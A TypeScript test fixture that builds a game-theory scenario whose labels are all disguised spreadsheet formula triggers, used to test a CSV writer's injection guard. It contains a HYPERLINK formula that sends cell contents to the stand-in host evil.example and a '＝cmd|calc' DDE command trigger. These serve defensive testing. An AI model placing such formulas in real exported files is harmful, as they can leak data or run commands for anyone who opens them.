// A scenario whose every label is a spreadsheet formula trigger in one of its disguises (full-width `＝`, leading
// blank, `@`, `+`, zero-width space before `-`, tab, small form `﹦`, and a HYPERLINK payload): what the CSV writer's
// injection guard must neutralise. Shared by tests/hostile/csvInjection.test.ts and tests/spreadsheet/.

/** The formula a hostile label carries (a spreadsheet that evaluated it would show a link to evil.example). */
export const PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

/** The hostile-label scenario with this title and Q's two strategy labels. */
export const hostileLabelScenario = (
  title: string,
  qLabels: readonly [string, string],
): Record<string, unknown> => ({
  format: 'parley.scenario/1',
  id: 'hostile',
  title,
  parameters: {
    a: { label: '\uff1dcmd|calc', default: 2, min: 0, max: 4, uncertainty: '1 to 3' },
    b: { label: ' =1+1', default: 1, min: 0, max: 2, uncertainty: '0.5 to 1.5' },
  },
  actors: [
    {
      id: 'P',
      name: '@SUM(1)',
      strategies: [
        { id: 'up', label: '+1+1' },
        { id: 'down', label: '\u200b-2+3' },
      ],
      payoffs: { up: 'a * Q.left', down: 'b' },
    },
    {
      id: 'Q',
      name: '\tQ',
      strategies: [
        { id: 'left', label: qLabels[0] },
        { id: 'right', label: qLabels[1] },
      ],
      payoffs: { left: 'P.up', right: 'P.down' },
    },
  ],
  outcomes: { coord: { label: PAYLOAD, when: 'P.up and Q.left' } },
  metrics: { pay: { label: '\ufe66x', value: 'a + b' } },
});
